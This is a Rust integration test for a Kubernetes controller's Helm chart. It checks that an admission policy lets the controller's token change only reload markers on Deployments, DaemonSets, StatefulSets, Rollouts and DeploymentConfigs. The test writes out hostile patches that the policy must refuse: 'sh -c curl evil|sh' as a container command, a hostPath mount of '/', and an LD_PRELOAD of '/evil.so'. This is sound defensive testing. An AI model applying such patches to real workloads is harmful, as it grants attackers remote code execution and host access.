//! The write fence (docs/security.md): the chart's ValidatingAdmissionPolicy lets the controller's
//! ServiceAccount change nothing of a workload but its reload markers. Its own token, used
//! directly with kubectl, is refused when it tries to change an image, a command, a volume,
//! replicas or a label, of each kind the chart fences; the same token may still write a marker.
//! (That every reload of the chart's values sets passes the fence is shown by the other tests of
//! this binary: they install it with the RBAC and fail on any `forbidden` log line.)

use std::path::Path;
use std::process::Command;
use std::time::Duration;

use reloader_harness::{ControlPlane, Crd, NotYet, wait_until};
use reloader_tests::chart::{Helm, Installation, WRITE_FENCE_API, release_name};
use reloader_tests::fixtures::TestEnv;
use serde_json::{Value, json};

use super::{Scope, isolate};

const FENCE: &str = "the write fence lets reloader change only";
/// The policy is in force once the API server's admission plugin has read it.
const FENCE_IN_FORCE: Duration = Duration::from_secs(60);

/// `kubectl` as the chart's ServiceAccount: Ok(stdout) or Err(stderr).
fn kubectl_as(plane: &ControlPlane, kubeconfig: &Path, args: &[&str]) -> Result<String, String> {
    let output = Command::new(&plane.binaries().kubectl)
        .env("KUBECONFIG", kubeconfig)
        .args(args)
        .output()
        .expect("running kubectl");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).trim().to_owned();
    if output.status.success() { Ok(text(&output.stdout)) } else { Err(text(&output.stderr)) }
}

fn kubectl_admin(plane: &ControlPlane, args: &[&str]) -> String {
    kubectl_as(plane, plane.kubeconfig_path(), args).unwrap_or_else(|e| panic!("kubectl {args:?}: {e}"))
}

fn pod_template(name: &str) -> Value {
    json!({
        "metadata": {"labels": {"app": name}},
        "spec": {"containers": [{"name": "app", "image": "app:1", "command": ["app"],
            "env": [{"name": "MODE", "value": "one"}]}]},
    })
}

/// One object of each fenced kind, as its owner would create it.
fn workloads(namespace: &str) -> Vec<(&'static str, Value)> {
    let selector = |name: &str| json!({"matchLabels": {"app": name}});
    let meta = |name: &str| json!({"name": name, "namespace": namespace, "labels": {"team": "a"}});
    vec![
        (
            "deployment",
            json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": meta("web"),
            "spec": {"replicas": 1, "selector": selector("web"), "template": pod_template("web")}}),
        ),
        (
            "daemonset",
            json!({"apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": meta("agent"),
            "spec": {"selector": selector("agent"), "template": pod_template("agent")}}),
        ),
        (
            "statefulset",
            json!({"apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": meta("db"),
            "spec": {"replicas": 1, "serviceName": "db", "selector": selector("db"), "template": pod_template("db")}}),
        ),
        (
            "rollout",
            json!({"apiVersion": "argoproj.io/v1alpha1", "kind": "Rollout", "metadata": meta("canary"),
            "spec": {"replicas": 1, "selector": selector("canary"), "template": pod_template("canary"),
                "strategy": {"canary": {}}}}),
        ),
        (
            "deploymentconfig",
            json!({"apiVersion": "apps.openshift.io/v1", "kind": "DeploymentConfig",
            "metadata": meta("legacy"), "spec": {"replicas": 1, "selector": {"app": "legacy"},
                "template": pod_template("legacy")}}),
        ),
    ]
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_controllers_own_token_can_change_nothing_but_markers() {
    let env = TestEnv::new().await;
    let TestEnv { plane, ns, .. } = &env;
    let namespace = ns.name();
    plane.install_crds(&[Crd::ArgoRollouts, Crd::DeploymentConfig]).await.expect("installing CRDs");
    let values =
        json!({ "reloader": { "watchGlobally": false, "isArgoRollouts": true, "isOpenshift": true } });
    let manifest = Helm::locate()
        .unwrap()
        .template_with_apis(&release_name(), namespace, &values, &[WRITE_FENCE_API])
        .unwrap();
    let _isolation = isolate(Scope::ReleaseNamespace).await;
    let installation = Installation::install(plane, &manifest, None).await.unwrap();
    let token = installation.kubeconfig_path();
    for (_, object) in workloads(namespace) {
        let file = tempfile::NamedTempFile::new().unwrap();
        std::fs::write(file.path(), object.to_string()).unwrap();
        kubectl_admin(plane, &["apply", "-f", &file.path().display().to_string()]);
    }

    let deployment = "deployment/web";
    wait_until("the fence to be in force", FENCE_IN_FORCE, || async {
        match kubectl_as(
            plane,
            token,
            &["-n", namespace, "set", "image", deployment, "app=evil:1", "--dry-run=server"],
        ) {
            Err(refused) if refused.contains(FENCE) => Ok(()),
            other => Err(NotYet(format!("{other:?}"))),
        }
    })
    .await
    .unwrap();

    for (resource, object) in workloads(namespace) {
        let name = object["metadata"]["name"].as_str().unwrap();
        let target = format!("{resource}/{name}");
        let before = kubectl_admin(plane, &["-n", namespace, "get", &target, "-o", "json"]);
        let attempts: [(&str, Vec<&str>); 6] = [
            (
                "an image",
                vec![
                    "patch",
                    &target,
                    "--type=json",
                    "-p",
                    r#"[{"op":"replace","path":"/spec/template/spec/containers/0/image","value":"evil:1"}]"#,
                ],
            ),
            (
                "a command",
                vec![
                    "patch",
                    &target,
                    "--type=json",
                    "-p",
                    r#"[{"op":"replace","path":"/spec/template/spec/containers/0/command","value":["sh","-c","curl evil|sh"]}]"#,
                ],
            ),
            (
                "a volume",
                vec![
                    "patch",
                    &target,
                    "--type=json",
                    "-p",
                    r#"[{"op":"add","path":"/spec/template/spec/volumes","value":[{"name":"host","hostPath":{"path":"/"}}]}]"#,
                ],
            ),
            ("replicas", vec!["patch", &target, "--type=merge", "-p", r#"{"spec":{"replicas":7}}"#]),
            ("a label", vec!["label", &target, "team=evil", "--overwrite"]),
            (
                "an ordinary variable",
                vec![
                    "patch",
                    &target,
                    "--type=json",
                    "-p",
                    r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"LD_PRELOAD","value":"/evil.so"}}]"#,
                ],
            ),
        ];
        for (what, args) in attempts {
            if what == "replicas" && resource == "daemonset" {
                continue; // A DaemonSet has none: the API server drops the field, nothing changes.
            }
            let mut args: Vec<&str> = args;
            args.splice(0..0, ["-n", namespace]);
            match kubectl_as(plane, token, &args) {
                Err(refused) => assert!(
                    refused.contains(FENCE),
                    "{target}, {what}: refused, but not by the fence: {refused}"
                ),
                Ok(out) => panic!("{target}: the controller's token changed {what}: {out}"),
            }
        }
        assert_eq!(
            strip_volatile(&kubectl_admin(plane, &["-n", namespace, "get", &target, "-o", "json"])),
            strip_volatile(&before),
            "{target} is as it was"
        );
        // What reloader itself writes passes: a marker variable.
        let marker = r#"[{"op":"add","path":"/spec/template/spec/containers/0/env/-","value":{"name":"STAKATER_APP_CONFIG_CONFIGMAP","value":"0123abcd"}}]"#;
        kubectl_as(plane, token, &["-n", namespace, "patch", &target, "--type=json", "-p", marker])
            .unwrap_or_else(|e| panic!("{target}: a marker is refused: {e}"));
    }
    installation.uninstall(plane).await;
}

/// The object without what the API server changes on its own (status, versions, timestamps).
fn strip_volatile(json_text: &str) -> Value {
    let mut object: Value = serde_json::from_str(json_text).unwrap();
    object.as_object_mut().unwrap().remove("status");
    let metadata = object["metadata"].as_object_mut().unwrap();
    for key in ["resourceVersion", "generation", "managedFields"] {
        metadata.remove(key);
    }
    if let Some(annotations) = metadata.get_mut("annotations").and_then(Value::as_object_mut) {
        annotations.remove("deployment.kubernetes.io/revision");
    }
    object
}
